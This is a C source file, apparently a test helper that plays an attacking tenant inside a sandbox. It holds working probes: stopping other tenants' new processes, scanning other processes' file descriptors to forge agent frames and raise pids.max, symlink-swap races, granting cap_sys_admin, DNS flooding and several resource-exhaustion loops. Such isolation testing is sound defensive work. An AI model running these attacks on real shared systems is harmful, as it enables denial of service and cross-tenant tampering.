/* hostile: what an attacking tenant runs inside its sandbox (tests/test_attacks.py). One static binary,
 * written into the sandbox with write_file, so the attacks need nothing of the image.
 *
 *   hostile stopper HOLD        SIGSTOP every new pid as soon as it exists; SIGCONT it after HOLD s;
 *                               counts what it stopped in /tmp/stopped, their command lines and
 *                               uids (as seen inside) in /tmp/seen
 *   hostile inotify             open inotify instances until refused; print "N errno", then hold them
 *   hostile watches DIR         add inotify watches on new files in DIR until refused; print "N errno"
 *   hostile keys                add user keys until refused; print "N errno"
 *   hostile key NAME            add one key to the session keyring, print its serial, then hold it
 *   hostile persist NAME        add a key to the persistent keyring (outlives the process), print serial
 *   hostile describe SERIAL     describe a key by serial; print "ok" or the errno
 *   hostile files DIR N         create up to N empty files in DIR; print "made errno"
 *   hostile uevent              open a netlink socket for the host's hotplug events; print "ok" or errno
 *   hostile probe FILE          the page-cache probe: mincore of FILE mapped, fadvise DONTNEED; print
 *                               "mincore=E fadvise=E" (0: allowed)
 *   hostile euid                print the effective uid (a planted setuid copy shows whom it runs as)
 *   hostile setcap FILE         give FILE cap_sys_admin+ep (security.capability); print "ok" or errno
 *   hostile sysv KEY            make a SysV shared memory segment, semaphore set and message queue with
 *                               KEY (they outlive the process); print "ok" or errno
 *   hostile sysvfind KEY        print how many of the three exist with KEY ("0": none)
 *   hostile hog MIB             touch MIB MiB of anonymous memory and keep it; print "held" then sleep
 *   hostile fdhog N             fork N processes that each open /dev/null until refused; print "TOTAL
 *                               E1,E2..." (files held, the errnos that stopped them), then hold them
 *   hostile syscall NAME        try one syscall on this process itself (pidfd_getfd, landlock, fsopen,
 *                               io_uring);
 *                               print "ok" or the errno
 *   hostile hop N               N busy processes, each moving itself to the next CPU every ~20 us
 *                               (sched_setaffinity); print "hopping", then go on for ever
 *   hostile ptys N              open up to N terminals (/dev/ptmx); print "N errno", then hold them
 *   hostile threads N           make up to N threads (tiny stacks, each asleep); print "N errno", then
 *                               hold them
 *   hostile reread FILE N SECS  N processes re-reading FILE from its start for SECS s; print "done"
 *   hostile dnsflood IP N       send N DNS questions (A x.test) to IP:53 as fast as it can; print how many
 *                               were answered (counted until 1 s passes with none)
 *   hostile fdscan SECS         read every other process's fds by /proc/N/fd, as fast as it can, for SECS s;
 *                               attack each that is no pipe, socket, terminal, /dev/null or anon inode: a
 *                               directory's sandbox/pids.max raised, a file opened for writing sent forged
 *                               agent frames (exit 0 for exec ids 1..64); print each such target once,
 *                               "TARGET<tab>WHAT IT DID", then "scanned N"
 *   hostile swap PATH TARGET SECS  PATH a directory and a symlink to TARGET by turns, as fast as it can, for
 *                               SECS s; print "swapped N"
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <grp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <poll.h>
#include <time.h>
#include <unistd.h>

static long add_key(const char *name, int ring) {
    return syscall(SYS_add_key, "user", name, "secret", 6, ring);
}

/* Append "cmdline | Uid: line" of a stopped process to /tmp/seen: what the sandbox can learn of it. */
static void seen(pid_t p) {
    char path[64], buf[512], line[256] = "";
    snprintf(path, sizeof path, "/proc/%d/cmdline", (int)p);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
    if (fd >= 0) close(fd);
    if (n < 0) n = 0;
    for (ssize_t i = 0; i < n; i++) if (buf[i] == 0) buf[i] = ' ';
    buf[n] = 0;
    snprintf(path, sizeof path, "/proc/%d/status", (int)p);
    FILE *st = fopen(path, "r");
    while (st && fgets(line, sizeof line, st)) if (!strncmp(line, "Uid:", 4)) break;
    if (st) fclose(st);
    FILE *out = fopen("/tmp/seen", "a");
    if (out) { fprintf(out, "%s|%s", buf, strncmp(line, "Uid:", 4) ? "\n" : line); fclose(out); }
}

static void __attribute__((noreturn)) stopper(int hold) {
    pid_t last = getpid();
    struct { pid_t pid; time_t at; } held[1 << 14];
    int n = 0, released = 0;
    long stopped = 0;
    FILE *ready = fopen("/tmp/stopper.ready", "w");
    if (ready) { fprintf(ready, "%d\n", (int)last); fclose(ready); }
    for (;;) {
        for (pid_t p = last + 1; p < last + 256; p++) {
            if (kill(p, SIGSTOP) == 0) {
                held[n % (1 << 14)].pid = p;
                held[n % (1 << 14)].at = time(NULL);
                n++;
                last = p;
                stopped++;
                seen(p);
                FILE *f = fopen("/tmp/stopped", "w");
                if (f) { fprintf(f, "%ld\n", stopped); fclose(f); }
            }
        }
        time_t now = time(NULL);
        while (released < n && held[released % (1 << 14)].at + hold <= now)
            kill(held[released++ % (1 << 14)].pid, SIGCONT);
    }
}

static void spin_us(long us) {
    struct timespec a, b;
    clock_gettime(CLOCK_MONOTONIC, &a);
    do clock_gettime(CLOCK_MONOTONIC, &b);
    while ((b.tv_sec - a.tv_sec) * 1000000L + (b.tv_nsec - a.tv_nsec) / 1000 < us);
}

static void hopper(int cpus, int first) {
    for (int cpu = first;; cpu = (cpu + 1) % cpus) {
        cpu_set_t one;
        CPU_ZERO(&one);
        CPU_SET(cpu, &one);
        sched_setaffinity(0, sizeof one, &one);
        spin_us(20);
    }
}

static void hoppers(int n) {
    int cpus = (int)sysconf(_SC_NPROCESSORS_ONLN);
    for (int i = 1; i < n; i++)
        if (fork() == 0) hopper(cpus, i % cpus);
    printf("hopping\n");
    fflush(stdout);
    hopper(cpus, 0);
}

static int sleeper(void *unused) {
    (void)unused;
    for (;;) syscall(SYS_pause);
    return 0;
}

static const char *fd_attack(const char *path) {
    static char what[64];
    int d = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (d >= 0) {
        int p = openat(d, "sandbox/pids.max", O_WRONLY | O_CLOEXEC);
        int raised = p >= 0 && write(p, "100000", 6) == 6;
        int procs = faccessat(d, "1/fd", F_OK, 0) == 0;
        if (p >= 0) close(p);
        close(d);
        return raised ? "a pids hierarchy: pids.max raised" : procs ? "a /proc: its processes' fds listed"
                                                                    : "a directory, opened";
    }
    int w = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (w < 0) { snprintf(what, sizeof what, "refused: errno %d", errno); return what; }
    char frames[64 * 29];
    for (uint32_t id = 1; id <= 64; id++) {    /* u32 length, 'X', u32 exec id, i32 status 0, u64 0, u64 0 */
        char *f = frames + (id - 1) * 29;
        uint32_t len = 25;
        memset(f, 0, 29);
        memcpy(f, &len, 4); f[4] = 'X'; memcpy(f + 5, &id, 4);
    }
    int ok = write(w, frames, sizeof frames) == (ssize_t)sizeof frames;
    close(w);
    return ok ? "opened for writing: forged frames written" : "opened for writing";
}

static void fdscan(int secs) {
    static char seen[64][256];
    int nseen = 0;
    long scanned = 0;
    pid_t me = getpid();
    time_t end = time(NULL) + secs;
    const char *fine[] = {"pipe:", "socket:", "anon_inode:", "/dev/null", "/dev/pts/", "/dev/ptmx", "/dev/tty"};
    while (time(NULL) < end) {
        DIR *procs = opendir("/proc");
        struct dirent *pe;
        while (procs && (pe = readdir(procs))) {
            if (atoi(pe->d_name) <= 0 || atoi(pe->d_name) == me) continue;
            char dir[64], path[320], link[160];
            snprintf(dir, sizeof dir, "/proc/%d/fd", atoi(pe->d_name));
            DIR *fds = opendir(dir);
            struct dirent *fe;
            while (fds && (fe = readdir(fds))) {
                if (fe->d_name[0] == '.') continue;
                snprintf(path, sizeof path, "%s/%s", dir, fe->d_name);
                ssize_t n = readlink(path, link, sizeof link - 1);
                if (n <= 0) continue;
                link[n] = 0;
                scanned++;
                int ok = 0;
                for (size_t i = 0; i < sizeof fine / sizeof *fine; i++) ok |= !strncmp(link, fine[i], strlen(fine[i]));
                if (ok) continue;
                int known = 0;
                for (int i = 0; i < nseen; i++) known |= !strncmp(seen[i], link, strlen(link)) && seen[i][n] == '\t';
                if (known || nseen == 64) continue;
                snprintf(seen[nseen++], sizeof seen[0], "%s\t%s", link, fd_attack(path));
            }
            if (fds) closedir(fds);
        }
        if (procs) closedir(procs);
    }
    for (int i = 0; i < nseen; i++) printf("%s\n", seen[i]);
    printf("scanned %ld\n", scanned);
    exit(0);
}

static void swap(const char *path, const char *target, int secs) {
    char dir[256], link[256];
    long n = 0;
    snprintf(dir, sizeof dir, "%s.d", path);
    snprintf(link, sizeof link, "%s.l", path);
    mkdir(path, 0777);
    for (time_t end = time(NULL) + secs; time(NULL) < end; n++) {
        rename(path, dir);                      /* the directory aside, the link in its place, */
        if (symlink(target, link) == 0) rename(link, path);
        unlink(path);                           /* then the directory back */
        rename(dir, path);
    }
    printf("swapped %ld\n", n);
    exit(0);
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *cmd = argv[1];
    if (!strcmp(cmd, "stopper") && argc > 2) stopper(atoi(argv[2]));
    if (!strcmp(cmd, "fdscan") && argc > 2) fdscan(atoi(argv[2]));
    if (!strcmp(cmd, "swap") && argc > 4) swap(argv[2], argv[3], atoi(argv[4]));
    if (!strcmp(cmd, "inotify")) {
        int n = 0;
        while (inotify_init1(IN_CLOEXEC) >= 0) n++;
        printf("%d %d\n", n, errno);
        fflush(stdout);
        close(1);
        pause();
    }
    if (!strcmp(cmd, "watches") && argc > 2) {
        int fd = inotify_init1(IN_CLOEXEC), n = 0;
        char path[4096];
        for (;;) {
            snprintf(path, sizeof path, "%s/%d", argv[2], n);
            int f = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
            if (f < 0) { printf("%d create-%d\n", n, errno); return 0; }
            close(f);
            if (inotify_add_watch(fd, path, IN_MODIFY) < 0) break;
            n++;
        }
        printf("%d %d\n", n, errno);
        return 0;
    }
    if (!strcmp(cmd, "keys")) {
        int n = 0;
        char name[32];
        for (;; n++) {
            snprintf(name, sizeof name, "k%d", n);
            if (add_key(name, -3 /* KEY_SPEC_SESSION_KEYRING */) < 0) break;
        }
        printf("%d %d\n", n, errno);
        return 0;
    }
    if (!strcmp(cmd, "key") && argc > 2) {
        long serial = add_key(argv[2], -3);
        printf("%ld\n", serial);
        fflush(stdout);
        close(1);
        pause();
    }
    if (!strcmp(cmd, "persist") && argc > 2) {
        long ring = syscall(SYS_keyctl, 22 /* KEYCTL_GET_PERSISTENT */, -1, -3);
        if (ring < 0) { printf("-1 %d\n", errno); return 0; }
        printf("%ld\n", add_key(argv[2], (int)ring));
        return 0;
    }
    if (!strcmp(cmd, "describe") && argc > 2) {
        char buf[256];
        long r = syscall(SYS_keyctl, 6 /* KEYCTL_DESCRIBE */, atol(argv[2]), buf, sizeof buf);
        if (r < 0) printf("%d\n", errno);
        else printf("ok %s\n", buf);
        return 0;
    }
    if (!strcmp(cmd, "files") && argc > 3) {
        int n = atoi(argv[3]), made = 0, err = 0;
        char path[4096];
        for (; made < n; made++) {
            snprintf(path, sizeof path, "%s/%d", argv[2], made);
            int f = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
            if (f < 0) { err = errno; break; }
            close(f);
        }
        printf("%d %d\n", made, err);
        return 0;
    }
    if (!strcmp(cmd, "drop") && argc > 3) {     /* drop UID PROG ARGS...: run PROG as UID (and its gid) */
        uid_t uid = (uid_t)atoi(argv[2]);
        if (setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid)) { perror("drop"); return 1; }
        execv(argv[3], argv + 3);
        perror("execv");
        return 127;
    }
    if (!strcmp(cmd, "euid")) {
        printf("%d\n", (int)geteuid());
        return 0;
    }
    if (!strcmp(cmd, "vsock")) {        /* a socket to the host's hypervisor (vsock is no namespace's) */
        int fd = socket(40 /* AF_VSOCK */, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd < 0) printf("%d\n", errno);
        else printf("ok\n");
        return 0;
    }
    if (!strcmp(cmd, "uevent")) {
        int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, 15 /* NETLINK_KOBJECT_UEVENT */);
        if (fd < 0) printf("%d\n", errno);
        else printf("ok\n");
        return 0;
    }
    if (!strcmp(cmd, "probe") && argc > 2) {
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0) { printf("open=%d\n", errno); return 0; }
        void *map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
        unsigned char vec[1];
        int m = map == MAP_FAILED ? -1 : mincore(map, 4096, vec);
        int me = m < 0 ? errno : 0;
        int fe = posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
        printf("mincore=%d fadvise=%d\n", me, fe);
        return 0;
    }
    if (!strcmp(cmd, "setcap") && argc > 2) {
        /* vfs_cap_data v2: magic|flags(effective), permitted lo/hi, inheritable lo/hi */
        uint32_t cap[5] = {0x02000000 | 1, 1u << 21, 0, 0, 0};
        if (setxattr(argv[2], "security.capability", cap, sizeof cap, 0)) printf("%d\n", errno);
        else printf("ok\n");
        return 0;
    }
    if (!strcmp(cmd, "sysv") && argc > 2) {
        key_t key = (key_t)atoi(argv[2]);
        if (shmget(key, 4096, IPC_CREAT | 0600) < 0 || semget(key, 1, IPC_CREAT | 0600) < 0
            || msgget(key, IPC_CREAT | 0600) < 0) printf("%d\n", errno);
        else printf("ok\n");
        return 0;
    }
    if (!strcmp(cmd, "sysvfind") && argc > 2) {
        key_t key = (key_t)atoi(argv[2]);
        printf("%d\n", (shmget(key, 0, 0) >= 0) + (semget(key, 0, 0) >= 0) + (msgget(key, 0) >= 0));
        return 0;
    }
    if (!strcmp(cmd, "syscall") && argc > 2) {
        long r = -1;
        if (!strcmp(argv[2], "pidfd_getfd")) {      /* a copy of our own stdout, through a pidfd of ourselves */
            long pidfd = syscall(SYS_pidfd_open, getpid(), 0);
            r = pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, (int)pidfd, 1, 0);
        } else if (!strcmp(argv[2], "landlock")) {  /* the ABI version: no privilege needed */
            r = syscall(SYS_landlock_create_ruleset, NULL, 0, 1);
        } else if (!strcmp(argv[2], "fsopen")) {
            r = syscall(SYS_fsopen, "tmpfs", 0);
        } else if (!strcmp(argv[2], "io_uring")) {   /* a ring of 8 entries: the params zeroed */
            char params[120] = {0};
            r = syscall(425 /* io_uring_setup */, 8, params);
        } else if (!strcmp(argv[2], "io_setup")) {   /* a native AIO context of 4,096 events */
            unsigned long ctx = 0;
            r = syscall(SYS_io_setup, 4096, &ctx);
        } else {
            errno = EINVAL;
        }
        if (r < 0) printf("%d\n", errno);
        else printf("ok\n");
        return 0;
    }
    if (!strcmp(cmd, "fdhog") && argc > 2) {
        int n = atoi(argv[2]), rep[2];
        if (pipe(rep)) return 1;
        for (int i = 0; i < n; i++) {
            pid_t p = fork();
            if (p < 0) { n = i; break; }
            if (p == 0) {
                long got = 0;
                while (open("/dev/null", O_RDONLY) >= 0) got++;
                long report[2] = {got, errno};
                if (write(rep[1], report, sizeof report) != sizeof report) _exit(1);
                for (;;) pause();
            }
        }
        long total = 0, report[2];
        int errs[8] = {0}, nerrs = 0;
        for (int i = 0; i < n && read(rep[0], report, sizeof report) == sizeof report; i++) {
            total += report[0];
            int known = 0;
            for (int k = 0; k < nerrs; k++) known |= errs[k] == (int)report[1];
            if (!known && nerrs < 8) errs[nerrs++] = (int)report[1];
        }
        printf("%ld ", total);
        for (int k = 0; k < nerrs; k++) printf(k ? ",%d" : "%d", errs[k]);
        printf("\n");
        fflush(stdout);
        close(1);
        for (;;) pause();
    }
    if (!strcmp(cmd, "hop") && argc > 2) hoppers(atoi(argv[2]));
    if (!strcmp(cmd, "reread") && argc > 4) {
        int n = atoi(argv[3]);
        time_t until = time(NULL) + atoi(argv[4]);
        for (int i = 0; i < n; i++) {
            if (fork() == 0) {
                char buf[65536];
                int fd = open(argv[2], O_RDONLY);
                while (fd >= 0 && time(NULL) < until)
                    if (pread(fd, buf, sizeof buf, 0) < 0) break;
                _exit(0);
            }
        }
        while (wait(NULL) > 0) {}
        printf("done\n");
        return 0;
    }
    if (!strcmp(cmd, "ptys") && argc > 2) {
        int n = atoi(argv[2]), got = 0, e = 0;
        for (; got < n; got++)
            if (open("/dev/ptmx", O_RDWR | O_NOCTTY) < 0) { e = errno; break; }
        printf("%d %d\n", got, e);
        fflush(stdout);
        for (;;) pause();
    }
    if (!strcmp(cmd, "threads") && argc > 2) {
        int n = atoi(argv[2]), got = 0, e = 0;
        for (; got < n; got++) {      /* a thread that only sleeps: 16 KiB of stack, shared VM and files */
            char *stack = mmap(NULL, 16384, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            if (stack == MAP_FAILED) { e = errno; break; }
            if (clone(sleeper, stack + 16384, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD
                      | CLONE_SYSVSEM, NULL) < 0) { e = errno; break; }
        }
        printf("%d %d\n", got, e);
        fflush(stdout);
        for (;;) pause();
    }
    if (!strcmp(cmd, "dnsflood") && argc > 3) {
        int s = socket(AF_INET, SOCK_DGRAM, 0), n = atoi(argv[3]), got = 0, big = 1 << 22;
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
        inet_pton(AF_INET, argv[2], &to.sin_addr);
        setsockopt(s, SOL_SOCKET, SO_RCVBUF, &big, sizeof big);
        if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to)) { perror("dnsflood"); return 1; }
        unsigned char q[] = {0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 1, 'x', 4, 't', 'e', 's', 't', 0, 0, 1, 0, 1};
        char buf[512];
        for (int i = 0; i < n; i++) {
            q[0] = i >> 8; q[1] = i;
            send(s, q, sizeof q, 0);
            while (recv(s, buf, sizeof buf, MSG_DONTWAIT) > 0) got++;
        }
        struct pollfd p = {.fd = s, .events = POLLIN};
        while (poll(&p, 1, 1000) > 0) if (recv(s, buf, sizeof buf, 0) > 0) got++;
        printf("%d\n", got);
        return 0;
    }
    if (!strcmp(cmd, "hog") && argc > 2) {
        size_t n = (size_t)atoi(argv[2]) << 20;
        char *m = malloc(n);
        if (!m) { printf("%d\n", errno); return 1; }
        memset(m, 1, n);
        __asm__ volatile("" : : "r"(m) : "memory");   /* m is never read again: -Os dropped the malloc and
                                                         the memset, and "held" held 700 kB */
        printf("held\n");
        fflush(stdout);
        for (;;) pause();
    }
    return 2;
}
